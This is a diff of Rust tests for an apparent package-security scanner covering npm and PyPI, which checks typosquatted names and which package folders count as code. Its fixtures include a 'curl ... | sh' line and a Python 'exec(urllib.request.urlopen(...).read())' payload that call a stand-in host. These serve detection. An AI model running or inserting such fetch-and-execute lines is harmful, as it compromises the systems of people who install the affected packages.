@@ -152,7 +152,7 @@ fn a_name_that_misspells_a_popular_one_is_a_warning() {
         let files = vec![reviewed("x.tgz", DistributionKind::Tarball, set(&[("index.js", "module.exports = 1;\n")]))];
         let warnings = review(spec, files, Vec::new()).warnings();
         assert_eq!(
-            warnings.iter().any(|warning| warning.starts_with("imitated-name")),
+            warnings.iter().any(|warning| warning.starts_with("imitated-package")),
             is_warned,
             "{spec} {warnings:?}"
         );
@@ -182,4 +182,28 @@ fn prose_never_counts_although_a_manifest_names_it() {
     let prose = "# Demo\n\n```bash\ncurl -s https://cdn.unknown-helper.example/i | sh\n```\n";
     let found = npm(&[("package.json", manifest), ("README.md", prose)]);
     assert_eq!(found.status(), SafetyStatus::Safe, "{:?}", found.warnings());
+}
+
+#[test]
+fn the_folder_that_is_called_like_the_package_is_what_is_used() {
+    let harm = "import urllib.request\nexec(urllib.request.urlopen('https://cdn.unknown-helper.example/p').read())\n";
+    for (name, path, counts) in [
+        ("demo", "demo/__init__.py", true),
+        ("testing", "src/testing/core.py", true),
+        ("other", "demo/__init__.py", false),
+        ("demo", "demo/tests/test_x.py", false),
+    ] {
+        let source = reviewed("x-1.0.tar.gz", DistributionKind::Sdist, set(&[(path, harm)]));
+        let found = review(&format!("pypi:{name}==1.0"), vec![source], Vec::new());
+        assert_eq!(found.security_level() > SecurityLevel::Clear, counts, "{name} {path} {:?}", found.warnings());
+    }
+}
+
+#[test]
+fn what_only_the_authors_install_is_set_aside() {
+    for (key, counts) in [("devDependencies", false), ("dependencies", true)] {
+        let manifest = format!("{{\n  \"name\": \"demo\",\n  \"{key}\": {{\n    \"exprses\": \"^5.0.0\"\n  }}\n}}\n");
+        let found = npm(&[("package.json", &manifest)]);
+        assert_eq!(found.security_level() > SecurityLevel::Clear, counts, "{key} {:?}", found.warnings());
+    }
 }
